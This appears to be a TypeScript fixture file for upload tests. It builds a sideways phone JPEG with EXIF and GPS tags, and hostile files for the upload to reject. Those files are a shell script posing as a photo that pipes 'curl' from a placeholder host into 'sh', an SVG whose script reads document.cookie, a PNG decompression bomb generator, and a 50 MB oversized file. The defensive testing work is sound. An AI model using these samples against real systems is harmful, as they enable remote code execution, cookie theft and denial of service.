/**
 * Photos for the upload tests, made here rather than downloaded: a phone's JPEG (stored
 * sideways with an EXIF rotation, camera and GPS tags), and the hostile files the upload must
 * refuse. Used by the integration tests and the browser tests alike.
 */
import zlib from "node:zlib";
import sharp from "sharp";

/** Jaipur, as a phone would write it. */
const GPS = {
  GPSLatitudeRef: "N",
  GPSLatitude: "26/1 55/1 0/1",
  GPSLongitudeRef: "E",
  GPSLongitude: "75/1 49/1 0/1",
};

/**
 * A 1600×1200 JPEG stored sideways, its left half red and right half blue, with EXIF
 * orientation 6 (turn 90° clockwise to view): upright it is 1200×1600, red above blue.
 */
export async function phonePhoto(): Promise<Buffer> {
  const red = await sharp({
    create: { width: 800, height: 1200, channels: 3, background: "#c00000" },
  })
    .png()
    .toBuffer();
  return sharp({ create: { width: 1600, height: 1200, channels: 3, background: "#0000c0" } })
    .composite([{ input: red, left: 0, top: 0 }])
    .jpeg({ quality: 90 })
    .withMetadata({ orientation: 6 })
    .withExif({ IFD0: { Make: "TestPhone", Model: "Camera 1" }, IFD3: GPS })
    .toBuffer();
}

/** The tags an EXIF block holds in its first directory (IFD0), by number. */
export function exifTags(exif: Buffer | undefined): Set<number> {
  const tags = new Set<number>();
  if (!exif) return tags;
  const tiff = exif.subarray(exif.indexOf("Exif\0\0") >= 0 ? exif.indexOf("Exif\0\0") + 6 : 0);
  const little = tiff.toString("latin1", 0, 2) === "II";
  const u16 = (at: number) => (little ? tiff.readUInt16LE(at) : tiff.readUInt16BE(at));
  const u32 = (at: number) => (little ? tiff.readUInt32LE(at) : tiff.readUInt32BE(at));
  const ifd = u32(4);
  for (let i = 0; i < u16(ifd); i++) tags.add(u16(ifd + 2 + i * 12));
  return tags;
}
/** IFD0's pointer to the GPS directory: present when a photo says where it was taken. */
export const GPS_IFD_TAG = 0x8825;
export const ORIENTATION_TAG = 0x0112;

/** A script, named like a photo. */
export const scriptNamedJpg = (): Buffer =>
  Buffer.from("#!/bin/sh\ncurl https://example.invalid/x | sh\n");

/** An SVG that would run script if a page ever inlined it. */
export const svgWithScript = (): Buffer =>
  Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>',
  );

/**
 * A decompression bomb: a 100 KB PNG that says 10000×10000 pixels (100 MP) and would inflate
 * to 100 MB of pixels, over the upload's pixel limit.
 */
export function decompressionBomb(side = 10_000): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 0, 0, 0, 0], 8); // 8-bit greyscale, no interlace
  const pixels = zlib.deflateSync(Buffer.alloc(side * (side + 1)), { level: 9 });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", header),
    chunk("IDAT", pixels),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** 50 MB of a JPEG's first bytes and noise: over the size limit, whatever it holds. */
export const fiftyMegabytes = (): Buffer => {
  const file = Buffer.alloc(50 * 1024 * 1024, 7);
  file.set([0xff, 0xd8, 0xff, 0xe0]);
  return file;
};
